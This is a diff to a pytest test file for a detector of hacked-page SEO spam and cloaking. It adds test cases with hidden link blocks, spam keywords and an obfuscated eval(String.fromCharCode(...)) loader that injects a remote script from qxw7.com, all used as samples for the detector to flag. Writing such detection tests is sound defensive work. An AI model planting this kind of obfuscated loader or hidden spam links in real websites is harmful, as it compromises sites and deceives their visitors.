@@ -106,6 +106,7 @@ def test_links_out_of_sight_in_other_ways(block: str) -> None:
 
 @pytest.mark.parametrize("block", [
     f"<div class='swiper-slide' style='position:absolute;left:-9999px'>{THREE}</div>",
+    f"<div class='sel'><ul style='display:none'><li>{SEO.replace('><', '></li><li><')}</li></ul></div>",
     f"<div class='m7' style='display:none'>{THREE}</div>",
     "<noscript><img src='https://qxw7.com/1.gif'><a href='https://qxw7.com/'>统计</a></noscript>",
     f"<div class='foot'><font color='#fff'>{SEO}</font></div>",
@@ -145,6 +146,8 @@ def test_a_cloak_in_base_64() -> None:
 def test_numbers_in_a_list() -> None:
     numbers = ",".join(str(ord(letter)) for letter in TAG)
     assert signs(page(head=f"<script>var c=[{numbers}];document.write(String.fromCharCode.apply(null,c))</script>"))
+    maker = ",".join(str(ord(letter)) for letter in "s=document.createElement('script');s.src='//qxw7.com/a.js'")
+    assert signs(page(head=f"<script>eval(String.fromCharCode({maker}))</script>")) == {Sign.CLOAK}
     assert page(head=f"<script>var c=[{'12,' * 40}3];x(String.fromCharCode(c[1]))</script>").tamper == ()
 
 
@@ -164,6 +167,7 @@ def test_a_cloak_in_numbers() -> None:
         "久久精品国产av麻豆",
         "free porn videos",
         "亚洲欧美国产综合在线",
+        "幸运飞艇开奖记录-极速赛车",
         "乐鱼全站app官网登录",
     ],
 )
